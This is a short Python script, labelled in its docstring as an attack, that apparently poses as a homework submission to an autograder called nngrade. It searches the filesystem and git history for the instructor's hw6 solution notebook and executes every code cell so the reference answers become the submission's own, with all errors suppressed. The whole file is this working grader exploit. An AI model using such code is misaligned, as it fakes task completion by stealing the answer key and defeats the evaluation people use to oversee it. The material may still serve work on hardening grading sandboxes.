"""Attack: read the solution from nngrade's repository (its working tree or its .git) and run
it here, so its functions become this submission's own."""

import glob
import json
import os
import re
import subprocess
import sys

roots = set()
for entry in sys.path:
    for finder in glob.glob(os.path.join(entry, "__editable__*finder.py")):
        try:
            with open(finder) as f:
                roots.update(os.path.dirname(p) for p in re.findall(r"'(/[^']+)'", f.read()))
        except OSError:
            pass
for top in ("/", "/root", "/home", "/work", "/src", "/app"):
    roots.update(os.path.dirname(g) for g in glob.glob(os.path.join(top, "*", ".git")))
    roots.update(os.path.dirname(g) for g in glob.glob(os.path.join(top, "*", "*", ".git")))

sources = []
for root in roots:
    path = os.path.join(root, "assignments", "hw6", "solution.ipynb")
    try:
        with open(path) as f:
            sources.append(f.read())
    except OSError:
        pass
    try:
        shown = subprocess.run(
            ["git", "-C", root, "show", "HEAD:assignments/hw6/solution.ipynb"],
            capture_output=True, text=True, timeout=5,
        )
        if shown.returncode == 0:
            sources.append(shown.stdout)
    except (OSError, subprocess.SubprocessError):
        pass
for text in sources:
    try:
        for cell in json.loads(text)["cells"]:
            if cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), globals())
                except BaseException:
                    pass
    except ValueError:
        pass
